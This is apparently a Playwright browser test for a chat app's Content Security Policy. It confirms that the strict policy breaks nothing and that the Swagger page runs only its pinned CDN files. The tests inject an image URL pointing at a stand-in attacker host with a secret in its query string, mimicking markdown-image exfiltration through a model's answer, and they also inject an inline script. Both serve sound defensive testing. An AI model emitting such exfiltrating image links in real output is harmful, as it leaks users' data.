import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type Browser, type BrowserContext, chromium, type Page } from "playwright-core";
import { ServiceProcess } from "../support/service-process.ts";

const chromiumPath = process.env.CHROMIUM_PATH ?? "/usr/bin/chromium";
const chromiumAvailable = existsSync(chromiumPath);
if (!chromiumAvailable && process.env.CI)
  throw new Error(`${chromiumPath} is missing, and CI requires the browser tests`);

type Violation = { directive: string; blocked: string };

/** Records every CSP violation the page reports, from its first script on. */
async function recordViolations(context: BrowserContext): Promise<void> {
  await context.addInitScript(() => {
    const violations: Violation[] = [];
    (window as unknown as { violations: Violation[] }).violations = violations;
    document.addEventListener("securitypolicyviolation", (event) => {
      violations.push({ directive: event.effectiveDirective, blocked: event.blockedURI });
    });
  });
}

function violationsOf(page: Page): Promise<Violation[]> {
  return page.evaluate(() => (window as unknown as { violations: Violation[] }).violations);
}

/**
 * Swagger UI's files as the page would get them from the CDN, which this machine cannot reach:
 * a bundle that starts the way the real one does (fetches the document, renders into dom_id).
 */
const swaggerBundleStub = `window.SwaggerUIBundle = (options) => {
  fetch(options.url).then((response) => response.json()).then((document_) => {
    const root = document.querySelector(options.dom_id);
    root.textContent = Object.keys(document_.paths).length + " paths";
    root.dataset.loaded = "true";
  });
};`;

describe.skipIf(!chromiumAvailable)("the content security policies in a real browser", () => {
  const dataDirectory = mkdtempSync(join(tmpdir(), "chat-csp-"));
  let server: ServiceProcess;
  let browser: Browser;

  beforeAll(async () => {
    server = await ServiceProcess.start("all-in-one", "services/all-in-one/main.ts", {
      DATA_DIR: dataDirectory,
      AMQP_URL: "",
      REDIS_URL: "",
    });
    browser = await chromium.launch({
      executablePath: chromiumPath,
      args: [
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-background-networking",
        "--disable-component-update",
        "--no-first-run",
      ],
    });
  });
  afterAll(async () => {
    await browser?.close();
    await server?.stop();
    rmSync(dataDirectory, { recursive: true, force: true });
  });

  test("the app runs under the strict policy with no violation; a remote image is blocked", async () => {
    const context = await browser.newContext();
    await recordViolations(context);
    const page = await context.newPage();
    const pageErrors: string[] = [];
    page.on("pageerror", (error) => pageErrors.push(error.message));

    const response = await page.goto(server.baseUrl);
    expect(response?.headers()["content-security-policy"]).toContain("script-src 'self';");
    await page.getByRole("tab", { name: "Sign up" }).click();
    await page.locator('input[name="name"]').fill("Csp Tester");
    await page.locator('input[name="email"]').fill(`csp-${crypto.randomUUID()}@example.test`);
    await page.locator('input[name="password"]').fill("correct horse battery");
    await page.getByRole("button", { name: "Create account" }).click();
    await page.getByRole("button", { name: "New chat" }).click();
    await page.locator("message-composer textarea").waitFor();

    // Lit's component styles apply without 'unsafe-inline': the composer is laid out, not bare.
    const composerDisplay = await page
      .locator("message-composer")
      .evaluate((element) => getComputedStyle(element).display);
    expect(composerDisplay).not.toBe("inline");
    expect(await violationsOf(page)).toEqual([]);
    expect(pageErrors).toEqual([]);

    // What a markdown image in a model's answer would become: the browser refuses to fetch it.
    await page.evaluate(() => {
      const image = document.createElement("img");
      image.src = "https://attacker.example/leak.png?secret=1";
      document.body.append(image);
    });
    await page.waitForFunction(
      () => (window as unknown as { violations: Violation[] }).violations.length > 0,
    );
    expect(await violationsOf(page)).toEqual([
      { directive: "img-src", blocked: "https://attacker.example/leak.png?secret=1" },
    ]);
    await context.close();
  }, 30_000);

  test("/swagger: its pinned CDN files and its own inline script run; nothing else does", async () => {
    const context = await browser.newContext();
    await recordViolations(context);
    const cdnRequests: string[] = [];
    await context.route("https://unpkg.com/**", async (route) => {
      const url = route.request().url();
      cdnRequests.push(url);
      await route.fulfill(
        url.endsWith(".js")
          ? { contentType: "text/javascript", body: swaggerBundleStub }
          : { contentType: "text/css", body: "#swagger-ui { color: rgb(1, 2, 3); }" },
      );
    });
    const page = await context.newPage();
    const response = await page.goto(`${server.baseUrl}/swagger`);
    const policy = response?.headers()["content-security-policy"] ?? "";
    expect(policy).toContain("script-src https://unpkg.com/swagger-ui-dist@");
    expect(policy).not.toContain("unsafe-inline");

    await page.locator('#swagger-ui[data-loaded="true"]').waitFor();
    expect(await page.locator("#swagger-ui").textContent()).toMatch(/^\d+ paths$/);
    expect(await page.locator("#swagger-ui").evaluate((element) => getComputedStyle(element).color)).toBe(
      "rgb(1, 2, 3)",
    );
    expect(cdnRequests.map((url) => new URL(url).pathname.split("/").at(-1)).sort()).toEqual([
      "swagger-ui-bundle.js",
      "swagger-ui.css",
    ]);
    expect(await violationsOf(page)).toEqual([]);

    // An injected inline script is still refused here.
    await page.evaluate(() => {
      const script = document.createElement("script");
      script.textContent = "window.injected = true";
      document.body.append(script);
    });
    await page.waitForFunction(
      () => (window as unknown as { violations: Violation[] }).violations.length > 0,
    );
    expect(await page.evaluate(() => "injected" in window)).toBe(false);
    expect((await violationsOf(page)).map((violation) => violation.directive)).toEqual(["script-src-elem"]);
    await context.close();
  }, 30_000);
});
